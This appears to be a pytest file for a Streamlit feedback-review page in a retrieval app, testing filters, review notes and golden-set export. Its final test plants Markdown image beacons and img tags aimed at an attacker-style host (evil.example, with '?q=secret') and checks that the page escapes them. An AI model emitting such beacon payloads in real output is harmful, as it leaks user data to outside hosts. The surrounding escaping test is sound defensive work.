"""AppTest of the feedback review page against a real SQLite database under tmp_path."""

from __future__ import annotations

import json
import re

import pytest
from streamlit.testing.v1 import AppTest

from rag.ops.database import open_db
from rag.ops.feedback import get_feedback, mark_reviewed, record_feedback
from tests.ops.test_runlog import make_run
from tests.pages.apptest import run_page_file


@pytest.fixture
def seeded(page_data_dir):
    db = open_db(page_data_dir / "app.db")
    ids = {
        "leave": record_feedback(db, make_run(), 1, None, None, "ana"),
        "vpn": record_feedback(
            db,
            make_run(
                question="Where is the VPN guide?",
                answer="Ask IT.",
                cited_sources=["vpn.md"],
                passages=[{"chunk_id": "it-7", "source": "vpn.md", "page": 1, "score": 0.6}],
                prompt_version="v2",
                model="llama3.2:3b",
            ),
            0,
            "incomplete",
            "It does not say where",
            "ben",
        ),  # fmt: skip
    }
    db.close()
    return ids


def run_page() -> AppTest:
    return run_page_file("feedback", 60)


def table_questions(at: AppTest) -> list[str]:
    return at.dataframe[0].value["question"].tolist()


def test_empty_state(page_data_dir):
    at = run_page()
    assert "No feedback yet" in at.info[0].value
    assert not at.dataframe


def test_rows_are_listed_with_details(seeded):
    at = run_page()
    assert table_questions(at) == [
        "Where is the VPN guide?",
        "How many days of annual leave do staff get?",
    ]
    assert at.caption[0].value == "2 of 2 ratings"
    assert any("It does not say where" in m.value for m in at.markdown)
    assert len(at.get("download_button")) == 2


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("f_rating", "👍 Helpful", ["How many days of annual leave do staff get?"]),
        ("f_reason", "incomplete", ["Where is the VPN guide?"]),
        ("f_prompt", "v1", ["How many days of annual leave do staff get?"]),
        ("f_model", "llama3.2:3b", ["Where is the VPN guide?"]),
        ("f_user", "ana", ["How many days of annual leave do staff get?"]),
        ("f_document", "handbook.pdf", ["How many days of annual leave do staff get?"]),
    ],
)
def test_a_filter_changes_the_rows(seeded, key, value, expected):
    at = run_page()
    at.selectbox(key=key).set_value(value).run()
    assert not at.exception
    assert table_questions(at) == expected


def test_no_match_shows_a_message(seeded):
    at = run_page()
    at.selectbox(key="f_reason").set_value("out of date").run()
    assert "No ratings match" in at.info[0].value


def test_mark_reviewed_persists(seeded, page_data_dir):
    at = run_page()
    fid = seeded["vpn"]
    assert at.selectbox(key="detail").value == fid
    at.text_area(key=f"note_{fid}").input("Added the VPN page to the IT handbook").run()
    at.button(key="mark").click().run()
    assert not at.exception
    assert any("marked reviewed" in s.value for s in at.success)
    row = get_feedback(open_db(page_data_dir / "app.db"), fid)
    assert (
        row["reviewed"] == 1 and row["resolution_note"] == "Added the VPN page to the IT handbook"
    )
    assert table_questions(at) == ["How many days of annual leave do staff get?"]  # open only
    at.selectbox(key="f_status").set_value("Reviewed").run()
    assert table_questions(at) == ["Where is the VPN guide?"]
    assert any("Added the VPN page" in s.value for s in at.success)


def test_add_to_golden_set_writes_a_line(seeded, page_data_dir):
    at = run_page()
    fid = seeded["vpn"]
    at.text_area(key=f"gold_answer_{fid}").input("The VPN guide is on the IT intranet page.")
    at.text_area(key=f"gold_facts_{fid}").input("IT intranet")
    at.run()
    at.button(key="golden").click().run()
    assert not at.exception
    path = page_data_dir / "golden" / "feedback.jsonl"
    [line] = path.read_text().splitlines()
    assert json.loads(line) == {
        "id": f"feedback-{get_feedback(open_db(page_data_dir / 'app.db'), fid)['run_id'][:12]}",
        "question": "Where is the VPN guide?",
        "answer": "The VPN guide is on the IT intranet page.",
        "key_facts": ["IT intranet"],
        "sources": ["vpn.md"],
        "answerable": True,
    }
    at.button(key="golden").click().run()  # the same question again
    assert any("already in the golden set" in w.value for w in at.warning)
    assert len(path.read_text().splitlines()) == 1


def live(md: str) -> str:
    """What Markdown syntax sees: ``md`` with every backslash escape taken out."""
    return re.sub(r"\\.", "", md, flags=re.S)


def test_other_peoples_words_render_as_text(page_data_dir):
    image = "![x](http://evil.example/beacon.png?q=secret)"
    db = open_db(page_data_dir / "app.db")
    fid = record_feedback(
        db,
        make_run(
            question=f"Where is the VPN guide? {image}",
            rewritten_query="vpn guide <img src=http://evil.example/r.png>",
            # an answer stored before answers were escaped
            answer=f"1. The guide is on the intranet {image} [1].\n2. See <http://evil.example>.",
        ),
        0,
        "incorrect",
        f"Wrong, see [here](http://evil.example/c) {image}",
        "mallory",
    )
    mark_reviewed(db, fid, f"Fixed {image}", "rev :red[x]")
    db.close()
    at = run_page()
    at.selectbox(key="f_status").set_value("Reviewed").run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
    shown += [s.value for s in at.success]
    question = next(md for md in shown if md.startswith("**Question:**"))
    assert "\\!\\[x\\]\\(" in question  # the image syntax is shown, escaped
    comment = next(md for md in shown if md.startswith("**Comment:**"))
    assert "\\[here\\]\\(" in comment
    answer = next(md for md in shown if "intranet" in md)
    assert answer.startswith("1. The guide") and "[1]." in answer  # the answer keeps its layout
    for md in shown:
        rest = live(md)
        assert "![" not in rest and "](" not in rest and "<" not in rest, md
        assert ":red[" not in rest and "http://" not in rest, md
